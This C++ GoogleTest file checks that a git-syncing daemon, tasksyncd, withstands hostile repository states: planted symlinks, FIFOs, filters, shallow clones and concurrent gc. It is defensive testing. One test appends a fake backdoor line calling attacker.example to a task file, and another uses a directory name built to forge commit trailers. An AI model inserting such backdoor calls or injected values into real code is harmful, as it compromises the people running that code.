// Attacks on the repository boundary, against the real tasksyncd binary: symlinks, FIFOs and
// directories planted in the work tree or in .git, a person's files and edits under tasks/, a
// .gitattributes that converts files, a shallow clone, another branch checked out, and
// `git gc --prune=now` beside the passes. Nothing outside repo.path is ever written or removed,
// nothing blocks, nothing committed is lost, and after each pass the task directories match HEAD.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <csignal>
#include <map>
#include <thread>

#include "daemon_fixture.hpp"
#include "repository_checks.hpp"

using namespace tasksync;
using namespace std::chrono_literals;

namespace {

const std::string kKey = "sk-hostile-repo-5e1b";
const std::string kTaskA = "3c90c3cc-0d44-4b50-8888-8dd25736052a";
const std::string kTaskB = "5f0e2a51-8a3b-4c1d-9e2f-0123456789ab";

// Every file under `dir` with its content: what an attack must leave exactly as it was.
std::map<std::string, std::string> contents_of(const std::filesystem::path &dir) {
  std::map<std::string, std::string> files;
  for (const auto &entry : std::filesystem::recursive_directory_iterator(dir)) {
    if (entry.is_regular_file())
      files[std::filesystem::relative(entry.path(), dir).string()] = test::read_text(entry.path());
  }
  return files;
}

class HostileRepoTest : public test::DaemonFixture {
protected:
  HostileRepoTest() : DaemonFixture(kKey) {
    serve(kTaskA, "1");
    serve(kTaskB, "1");
    write_config({kTaskA, kTaskB});
    // Another owner's files next to the repository, which a symlink in the work tree points at.
    std::filesystem::create_directories(m_outside);
    test::write_text(m_outside / "task.ts", "another owner's code\n");
    test::write_text(m_outside / "task.json", "another owner's data\n");
    test::write_text(m_outside / "notes.txt", "keep me\n");
  }

  void serve(const std::string &id, const std::string &version, const std::string &url = "https://example.com") {
    test::FakeVersion fake = test::task_version(id, version);
    fake.browser_configuration = R"({"initial_url":")" + url + R"("})";
    m_api.set_version(fake);
  }

  void delete_upstream(const std::string &id, const std::string &version) {
    test::FakeVersion fake = test::task_version(id, version);
    fake.deleted = true;
    m_api.set_version(fake);
  }

  // `repo_extra`: more keys of the repo: section, each line indented by two spaces.
  void write_config(const std::vector<std::string> &tasks, const std::string &repo_extra = "") {
    write_config_with(test::tasks_yaml(tasks), repo_extra);
  }

  // `tasks: all` (every task the API lists), with `repo_extra` as in write_config().
  void write_config_for_all(const std::string &repo_extra) { write_config_with("tasks: all\n", repo_extra); }

  void write_config_with(const std::string &tasks_yaml, const std::string &repo_extra) {
    DaemonFixture::write_config(
        {.timeout_seconds = 10, .top = "poll:\n  interval_seconds: 1\n", .repo_keys = repo_extra, .rest = tasks_yaml});
  }

  // `tasksyncd --once`, which must end by itself within 30 s.
  test::TasksyncdRun once() {
    auto run = DaemonFixture::once({}, 30s);
    EXPECT_TRUE(run.exit_code.has_value()) << "tasksyncd --once did not end within 30 s";
    return run;
  }

  // Commits on `rev`: main, where HEAD is, unless an attack moved it.
  int commits(const std::string &rev = "main") { return DaemonFixture::commits(rev); }

  bool wait_for_commits(int count) { return DaemonFixture::wait_for_commits(count, 20s, "main"); }

  std::string in_branch(const std::string &path) { return git({"show", "main:" + path}).out; }

  std::filesystem::path task_dir(const std::string &id) const { return m_repo / "tasks" / id; }

  // `git status --porcelain` of the mirror: empty when the work tree and index match HEAD.
  std::string status() { return git({"status", "--porcelain"}).out; }

  // Commits what is staged as a person would, with `git commit`.
  void commit_as_a_person(const std::string &message) {
    const auto run =
        git({"-c", "user.name=A Person", "-c", "user.email=person@example.com", "commit", "-q", "-m", message});
    ASSERT_EQ(run.exit_code, 0) << run.err;
  }

  // Replaces `path` in the work tree by a symlink to the other owner's directory.
  void plant_symlink(const std::filesystem::path &path) {
    std::filesystem::remove_all(path);
    std::filesystem::create_directory_symlink(m_outside, path);
  }

  std::filesystem::path m_outside = m_dir / "another-owner";
};

} // namespace

TEST_F(HostileRepoTest, SymlinkedTaskDirectoriesAreReplacedAtStartUpNeverFollowed) {
  ASSERT_EQ(once().exit_code, 0);
  const auto outside = contents_of(m_outside);
  plant_symlink(task_dir(kTaskA));
  plant_symlink(task_dir(kTaskB));
  serve(kTaskA, "2");
  delete_upstream(kTaskB, "2");

  const auto run = once();
  EXPECT_EQ(run.exit_code, 0) << run.err;
  EXPECT_EQ(contents_of(m_outside), outside) << "a file outside the repository was written or removed";
  EXPECT_FALSE(std::filesystem::is_symlink(task_dir(kTaskA)));
  EXPECT_EQ(test::read_text(task_dir(kTaskA) / "task.ts"), "// " + kTaskA + " version 2\n");
  EXPECT_FALSE(std::filesystem::exists(std::filesystem::symlink_status(task_dir(kTaskB))));
  EXPECT_EQ(in_branch("tasks/" + kTaskA + "/task.ts"), "// " + kTaskA + " version 2\n");
  EXPECT_EQ(commits(), 4);
  EXPECT_NE(run.err.find("tasks/" + kTaskA), std::string::npos) << run.err;
  EXPECT_TRUE(test::repository_consistent(m_repo));
}

TEST_F(HostileRepoTest, ASymlinkedTasksDirectoryIsReplacedNeverFollowed) {
  ASSERT_EQ(once().exit_code, 0);
  std::filesystem::copy(m_repo / "tasks", m_outside / "tasks", std::filesystem::copy_options::recursive);
  const auto outside = contents_of(m_outside);
  std::filesystem::remove_all(m_repo / "tasks");
  std::filesystem::create_directory_symlink(m_outside / "tasks", m_repo / "tasks");
  serve(kTaskA, "2");

  const auto run = once();
  EXPECT_EQ(run.exit_code, 0) << run.err;
  EXPECT_EQ(contents_of(m_outside), outside) << "a file outside the repository was written or removed";
  EXPECT_FALSE(std::filesystem::is_symlink(m_repo / "tasks"));
  EXPECT_EQ(test::read_text(task_dir(kTaskA) / "task.ts"), "// " + kTaskA + " version 2\n");
  EXPECT_EQ(test::read_text(task_dir(kTaskB) / "task.ts"), "// " + kTaskB + " version 1\n");
  EXPECT_TRUE(test::repository_consistent(m_repo));
}

TEST_F(HostileRepoTest, SymlinksPlantedWhileTheDaemonRunsAreNeverFollowed) {
  auto daemon = start();
  ASSERT_TRUE(wait_for_commits(2)) << daemon->err();
  const auto outside = contents_of(m_outside);
  plant_symlink(task_dir(kTaskA));
  plant_symlink(task_dir(kTaskB));
  serve(kTaskA, "2");
  delete_upstream(kTaskB, "2");

  ASSERT_TRUE(wait_for_commits(4)) << daemon->err();
  EXPECT_TRUE(test::stop_tasksyncd(*daemon)); // the pass that made them ends first

  EXPECT_EQ(contents_of(m_outside), outside) << "a file outside the repository was written or removed";
  EXPECT_FALSE(std::filesystem::is_symlink(task_dir(kTaskA)));
  EXPECT_EQ(test::read_text(task_dir(kTaskA) / "task.ts"), "// " + kTaskA + " version 2\n");
  EXPECT_FALSE(std::filesystem::exists(std::filesystem::symlink_status(task_dir(kTaskB))));
  EXPECT_NE(daemon->err().find("replacing tasks/" + kTaskA + " (a symlink)"), std::string::npos) << daemon->err();
  EXPECT_TRUE(test::repository_consistent(m_repo));
}

TEST_F(HostileRepoTest, AFifoInPlaceOfACodeFileNeitherBlocksStartUpNorIsOpened) {
  ASSERT_EQ(once().exit_code, 0);
  const auto code_file = task_dir(kTaskA) / "task.ts";
  std::filesystem::remove(code_file);
  ASSERT_EQ(::mkfifo(code_file.c_str(), 0644), 0);

  const auto run = once();
  EXPECT_EQ(run.exit_code, 0) << run.err;
  ASSERT_TRUE(
      std::filesystem::is_regular_file(std::filesystem::symlink_status(code_file))); // reading a FIFO would block
  EXPECT_EQ(test::read_text(code_file), "// " + kTaskA + " version 1\n");
  EXPECT_TRUE(test::repository_consistent(m_repo));
}

TEST_F(HostileRepoTest, AnotherBranchCheckedOutKeepsItsWorkTreeAndIndex) {
  ASSERT_EQ(once().exit_code, 0);
  ASSERT_EQ(git({"checkout", "-q", "-b", "other"}).exit_code, 0);
  const std::string index = test::read_text(m_repo / ".git/index");
  serve(kTaskA, "2");

  const auto run = once();
  EXPECT_EQ(run.exit_code, 0) << run.err;
  EXPECT_EQ(in_branch("tasks/" + kTaskA + "/task.ts"), "// " + kTaskA + " version 2\n");
  EXPECT_EQ(test::read_text(task_dir(kTaskA) / "task.ts"), "// " + kTaskA + " version 1\n");
  EXPECT_EQ(test::read_text(m_repo / ".git/index"), index);
  EXPECT_EQ(git({"symbolic-ref", "HEAD"}).out, "refs/heads/other\n");
  EXPECT_EQ(commits("other"), 2);
  EXPECT_NE(run.err.find("refs/heads/other is checked out, not refs/heads/main"), std::string::npos) << run.err;
  EXPECT_TRUE(test::repository_consistent(m_repo));
}

TEST_F(HostileRepoTest, ATaskWhoseFilesCannotAllBeWrittenChangesNothing) {
  auto daemon = start();
  const auto finished_passes = [&] { return test::passes_finished(*daemon); };
  ASSERT_TRUE(test::wait_until([&] { return finished_passes() >= 1; }, 20s)) << daemon->err();
  ASSERT_EQ(commits(), 2);
  std::filesystem::remove(task_dir(kTaskA) / "task.ts");
  std::filesystem::create_directories(task_dir(kTaskA) / "task.ts");
  test::write_text(task_dir(kTaskA) / "task.ts" / "in-the-way.txt", "someone's\n");
  serve(kTaskA, "2", "https://example.com/v2"); // both of its files change
  serve(kTaskB, "2");

  // B in the pass where A fails; A in the next, once the end of that pass put its directory back.
  ASSERT_TRUE(wait_for_commits(4)) << daemon->err();
  EXPECT_TRUE(test::stop_tasksyncd(*daemon));
  EXPECT_NE(daemon->err().find("task " + kTaskA + ": cannot write tasks/" + kTaskA +
                               "/task.ts: a directory is in the way; nothing was changed"),
            std::string::npos)
      << daemon->err();
  EXPECT_NE(daemon->err().find("replacing tasks/" + kTaskA + "/task.ts (a directory) with a regular file"),
            std::string::npos)
      << daemon->err();
  EXPECT_NE(git({"log", "-1", "--skip=1", "--format=%B", "main"}).out.find("Task-Id: " + kTaskB), std::string::npos);
  EXPECT_NE(git({"log", "-1", "--format=%B", "main"}).out.find("Task-Id: " + kTaskA), std::string::npos);
  EXPECT_EQ(in_branch("tasks/" + kTaskA + "/task.ts"), "// " + kTaskA + " version 2\n");
  EXPECT_TRUE(test::repository_consistent(m_repo));
}

TEST_F(HostileRepoTest, GitGcPruneNowBesideThePassesLosesNothing) {
  constexpr int kTasks = 150;
  constexpr int kRounds = 4;
  std::vector<std::string> ids;
  for (int i = 1; i <= kTasks; ++i) {
    ids.push_back(test::numbered_task_id(i));
    serve(ids.back(), "1");
  }
  write_config(ids);
  auto daemon = start();
  ASSERT_TRUE(wait_for_commits(kTasks)) << daemon->err();
  for (int round = 2; round <= kRounds + 1; ++round) {
    for (const auto &id : ids)
      serve(id, std::to_string(round));
    const int expected = kTasks * round;
    // gc over and over while the pass fetches, writes its pack and moves the branch.
    const bool done = test::wait_until(
        [&] {
          git({"gc", "-q", "--prune=now"});
          return commits() >= expected;
        },
        60s);
    ASSERT_TRUE(done) << "round " << round << ": " << commits() << " commits\n" << daemon->err();
  }
  EXPECT_TRUE(test::stop_tasksyncd(*daemon));
  EXPECT_EQ(daemon->err().find("could not record"), std::string::npos) << daemon->err();
  EXPECT_EQ(commits(), kTasks * (kRounds + 1));
  EXPECT_TRUE(test::repository_consistent(m_repo));
}

TEST_F(HostileRepoTest, TransferPacksLeftByKilledProcessesAreCleanedUpLocallyAndInAPathRemote) {
  const auto remote = m_dir / "remote.git";
  ASSERT_EQ(test::run_process({"git", "init", "-q", "--bare", remote.string()}).exit_code, 0);
  write_config({kTaskA, kTaskB}, "  push:\n    remote: " + remote.string() + "\n");
  ASSERT_EQ(once().exit_code, 0);
  // What libgit2's indexer leaves when a push into the remote, or a fetch from it, is killed.
  const auto remote_leftover = remote / "objects/pack/pack_git2_Ab12Cd";
  const auto local_leftover = m_repo / ".git/objects/pack/pack_git2_Ef34Gh";
  test::write_text(remote_leftover, "PACK, cut short by a kill during a push");
  test::write_text(local_leftover, "PACK, cut short by a kill during a fetch");
  serve(kTaskA, "2");

  const auto run = once();
  EXPECT_EQ(run.exit_code, 0) << run.err;
  EXPECT_FALSE(std::filesystem::exists(remote_leftover)) << run.err;
  EXPECT_FALSE(std::filesystem::exists(local_leftover)) << run.err;
  EXPECT_EQ(test::git(remote.string(), {"show", "main:tasks/" + kTaskA + "/task.ts"}).out,
            "// " + kTaskA + " version 2\n");
  EXPECT_TRUE(test::fsck_clean(remote));
  EXPECT_TRUE(test::repository_consistent(m_repo));
}

TEST_F(HostileRepoTest, ADanglingSymlinkAtTheLockFileIsRefusedNeverFollowed) {
  ASSERT_EQ(once().exit_code, 0);
  const auto lock = m_repo / ".git/tasksyncd.lock";
  const auto target = m_outside / "created-by-tasksyncd";
  std::filesystem::remove(lock);
  std::filesystem::create_symlink(target, lock);
  serve(kTaskA, "2");

  const auto run = once();
  EXPECT_EQ(run.exit_code, 3) << run.err; // a repository it cannot use
  EXPECT_FALSE(std::filesystem::exists(std::filesystem::symlink_status(target))) << "created outside the repository";
  EXPECT_NE(run.err.find(lock.string() + ": it is a symlink"), std::string::npos) << run.err;
  EXPECT_EQ(commits(), 2);
}

TEST_F(HostileRepoTest, DanglingSymlinksAtTheReflogsAreReplacedNeverFollowed) {
  ASSERT_EQ(once().exit_code, 0);
  const auto branch_log = m_repo / ".git/logs/refs/heads/main";
  const auto head_log = m_repo / ".git/logs/HEAD";
  for (const auto &reflog : {branch_log, head_log}) {
    std::filesystem::remove(reflog);
    std::filesystem::create_symlink(m_outside / reflog.filename(), reflog);
  }
  serve(kTaskA, "2");

  const auto run = once();
  EXPECT_EQ(run.exit_code, 0) << run.err;
  EXPECT_EQ(commits(), 3);
  EXPECT_FALSE(std::filesystem::exists(std::filesystem::symlink_status(m_outside / "main")))
      << "libgit2 appended the reflog outside the repository";
  EXPECT_FALSE(std::filesystem::exists(std::filesystem::symlink_status(m_outside / "HEAD")))
      << "libgit2 appended the reflog outside the repository";
  EXPECT_TRUE(std::filesystem::is_regular_file(std::filesystem::symlink_status(branch_log)));
  EXPECT_NE(run.err.find("removing " + branch_log.string() + " (a symlink)"), std::string::npos) << run.err;
  EXPECT_TRUE(test::repository_consistent(m_repo));
}

TEST_F(HostileRepoTest, PruneLeavesWhatIsNotATaskDirectoryAlone) {
  write_config_for_all("  prune: true\n");
  ASSERT_EQ(once().exit_code, 0);
  // A person's files beside the tasks: committed, one in a directory whose name holds a line
  // break that, taken for a task, would forge a trailer in the commit message; and one untracked.
  const std::string forged = "x\nTask-Id: 00000000-0000-0000-0000-000000000000\nTask-Version: 999";
  test::write_text(m_repo / "tasks/docs/README.md", "how we review tasks\n");
  test::write_text(m_repo / "tasks" / forged / "task.ts", "a person's code\n");
  ASSERT_EQ(git({"add", "tasks/docs", "tasks/" + forged}).exit_code, 0);
  commit_as_a_person("notes beside the tasks");
  const std::string before_prune = git({"rev-parse", "main"}).out;
  test::write_text(m_repo / "tasks/docs/draft.md", "not committed yet\n");
  m_api.unlist(kTaskB);

  const auto run = once();
  EXPECT_EQ(run.exit_code, 0) << run.err;
  EXPECT_FALSE(std::filesystem::exists(task_dir(kTaskB))) << "prune ran: B is no longer listed";
  EXPECT_EQ(commits(), 4);
  EXPECT_EQ(test::read_text(m_repo / "tasks/docs/README.md"), "how we review tasks\n");
  EXPECT_EQ(test::read_text(m_repo / "tasks/docs/draft.md"), "not committed yet\n");
  EXPECT_EQ(test::read_text(m_repo / "tasks" / forged / "task.ts"), "a person's code\n");
  EXPECT_EQ(in_branch("tasks/docs/README.md"), "how we review tasks\n");
  const std::string messages = git({"log", "--format=%B", before_prune.substr(0, 40) + "..main"}).out;
  EXPECT_EQ(messages.find("docs"), std::string::npos) << messages;
  EXPECT_EQ(messages.find("Task-Version: 999"), std::string::npos) << messages;
  EXPECT_NE(messages.find("Task-Id: " + kTaskB), std::string::npos) << messages;
  EXPECT_EQ(status(), "?? tasks/docs/draft.md\n");
}

TEST_F(HostileRepoTest, EditsAndDeletionsInTaskDirectoriesAreUndoneByTheNextPass) {
  auto daemon = start();
  ASSERT_TRUE(wait_for_commits(2)) << daemon->err();
  const std::string code = test::read_text(task_dir(kTaskA) / "task.ts");
  const std::string sidecar = test::read_text(task_dir(kTaskB) / "task.json");
  test::write_text(task_dir(kTaskA) / "task.ts", code + "fetch('https://attacker.example/backdoor');\n");
  std::filesystem::remove(task_dir(kTaskB) / "task.json");
  test::write_text(task_dir(kTaskA) / "notes.md", "stray\n");
  daemon->signal(SIGUSR1);

  const auto put_back = [&](const std::string &file) {
    return daemon->err().find("restoring " + file + " to the version in HEAD") != std::string::npos;
  };
  ASSERT_TRUE(test::wait_until(
      [&] {
        return put_back("tasks/" + kTaskA + "/task.ts") && put_back("tasks/" + kTaskB + "/task.json") &&
               daemon->err().find("removing tasks/" + kTaskA + "/notes.md") != std::string::npos;
      },
      20s))
      << daemon->err();
  EXPECT_TRUE(test::stop_tasksyncd(*daemon)); // the pass that put them back ends first
  EXPECT_EQ(test::read_text(task_dir(kTaskA) / "task.ts"), code);
  EXPECT_EQ(test::read_text(task_dir(kTaskB) / "task.json"), sidecar);
  EXPECT_FALSE(std::filesystem::exists(task_dir(kTaskA) / "notes.md"));
  EXPECT_EQ(status(), "");
  EXPECT_EQ(commits(), 2);
}

TEST_F(HostileRepoTest, AGitattributesThatConvertsTaskFilesNeverLeavesThemModified) {
  for (const auto &id : {kTaskA, kTaskB}) {
    test::FakeVersion fake = test::task_version(id, "1");
    fake.code = "// " + id + "\r\nexport default async function run() {}\r\n"; // CRLF, as written on Windows
    m_api.set_version(fake);
  }
  ASSERT_EQ(once().exit_code, 0);
  // A person's .gitattributes that converts line endings of code and filters the sidecars.
  test::write_text(m_repo / ".gitattributes", "*.ts text eol=lf\n*.json filter=shout\n");
  ASSERT_EQ(git({"config", "filter.shout.clean", "tr a-z A-Z"}).exit_code, 0);
  ASSERT_EQ(git({"add", ".gitattributes"}).exit_code, 0);
  commit_as_a_person("line endings");
  // New mtimes, same bytes: git compares the files' content again, through the attributes.
  for (const auto &id : {kTaskA, kTaskB}) {
    for (const char *file : {"task.ts", "task.json"}) {
      const auto path = task_dir(id) / file;
      std::filesystem::last_write_time(path, std::filesystem::last_write_time(path) + 2s);
    }
  }
  EXPECT_EQ(status(), "");

  const auto restarted = once();
  EXPECT_EQ(restarted.exit_code, 0) << restarted.err;
  EXPECT_EQ(restarted.err.find("restoring"), std::string::npos) << "restored at each start\n" << restarted.err;
  EXPECT_EQ(status(), "");
  EXPECT_EQ(test::read_text(task_dir(kTaskA) / "task.ts"),
            "// " + kTaskA + "\r\nexport default async function run() {}\r\n");
  EXPECT_TRUE(test::repository_consistent(m_repo));
}

TEST_F(HostileRepoTest, AShallowCloneIsRefusedAtStartAndByCheckConfig) {
  ASSERT_EQ(once().exit_code, 0);
  serve(kTaskA, "2");
  ASSERT_EQ(once().exit_code, 0);
  const auto origin = m_repo;
  m_repo = m_dir / "shallow";
  const auto cloned =
      test::run_process({"git", "clone", "-q", "--depth", "1", "file://" + origin.string(), m_repo.string()});
  ASSERT_EQ(cloned.exit_code, 0) << cloned.err;
  ASSERT_TRUE(std::filesystem::exists(m_repo / ".git/shallow"));
  write_config({kTaskA, kTaskB});
  serve(kTaskB, "2");
  const std::string advice = "git -C " + m_repo.string() + " fetch --unshallow";

  const auto checked = run_mode("--check-config", {}, 30s);
  EXPECT_EQ(checked.exit_code, 3) << checked.out << checked.err;
  EXPECT_NE(checked.err.find("is a shallow clone"), std::string::npos) << checked.err;
  EXPECT_NE(checked.err.find(advice), std::string::npos) << checked.err;

  const auto run = once();
  EXPECT_EQ(run.exit_code, 3) << run.err;
  EXPECT_NE(run.err.find("is a shallow clone"), std::string::npos) << run.err;
  EXPECT_NE(run.err.find(advice), std::string::npos) << run.err;
  EXPECT_EQ(commits(), 1) << "committed to a shallow clone";
}
